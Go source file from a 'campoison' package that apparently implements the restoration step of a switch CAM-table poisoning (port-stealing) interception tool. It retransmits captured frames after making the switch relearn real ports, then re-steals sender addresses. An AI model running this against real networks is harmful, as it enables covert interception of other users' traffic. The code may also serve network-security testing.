// SPDX-FileCopyrightText: 2022 SAP SE or an SAP affiliate company and IronCore contributors
// SPDX-License-Identifier: Apache-2.0

package campoison

import (
	"bytes"
	"net"

	"github.com/ironcore-dev/campoison/arp"
	"github.com/ironcore-dev/campoison/queue"
	"github.com/ironcore-dev/campoison/receiver"
	"github.com/pkg/errors"
)

// restore drains the live queue and, destination by destination, makes the
// switch relearn the real port of the destination before retransmitting its
// frames. Only send errors are returned.
func (a *Attack) restore() error {
	old := a.live.Drain()
	defer old.Release()

	a.log().Debugf("Retransmitting %d frames for %d destinations", old.Frames(), old.Len())

	lists := old.Lists()
	for i, l := range lists {
		if len(l.Messages) == 0 {
			continue
		}

		err := a.retransmit(l)
		if err == nil {
			continue
		}

		var rerr *receiver.Error
		if !errors.As(err, &rerr) {
			return err
		}

		lost := 0
		for _, rest := range lists[i:] {
			lost += len(rest.Messages)
		}
		a.stats.Lost.Add(uint64(lost))
		a.log().Errorf("Restoration aborted, %d frames lost: %v", lost, err)
		return nil
	}

	return nil
}

func (a *Attack) retransmit(l *queue.List) error {
	logger := a.log().WithField("mac", l.Dest.String())

	ip, ok := a.cache.LookupIP(l.Dest)
	if !ok {
		logger.Errorf("Cannot restore CAM tables for unknown host, skipping %d frames", len(l.Messages))
		a.stats.Skipped.Add(uint64(len(l.Messages)))
		return nil
	}

	restored, err := a.resolver.Restore(ip, a.requeue)
	if err != nil {
		return err
	}
	if !restored {
		a.stats.RestoreFailures.Add(1)
		a.stats.Lost.Add(uint64(len(l.Messages)))
		return nil
	}
	a.stats.Restored.Add(1)

	for _, msg := range l.Messages {
		if err := a.wire.Send(msg); err != nil {
			return errors.Wrapf(err, "cannot retransmit frame to %s", l.Dest)
		}
		a.stats.Retransmitted.Add(1)

		// the frame left through our port with the sender's address, so the
		// switch now maps the sender to us
		src := net.HardwareAddr(msg[6:12])
		srcIP, ok := a.cache.LookupIP(src)
		if !ok {
			logger.Errorf("Cannot restore CAM tables for sender %s: not in the ARP cache", src)
			continue
		}
		if err := a.resolver.RestoreAsync(srcIP); err != nil {
			return err
		}
	}

	logger.Debugf("Retransmitted %d frames", len(l.Messages))
	return nil
}

// requeue keeps frames that arrive while waiting for a restoration reply.
// Frames for the protected hosts are queued too, they go out in the next
// cycle.
func (a *Attack) requeue(frame []byte) {
	if len(frame) < arp.EthernetHeaderSize {
		return
	}

	dst := net.HardwareAddr(frame[0:6])
	if isGroup(dst) || bytes.Equal(dst, a.iface.HardwareAddr) {
		return
	}

	a.enqueue(frame)
}
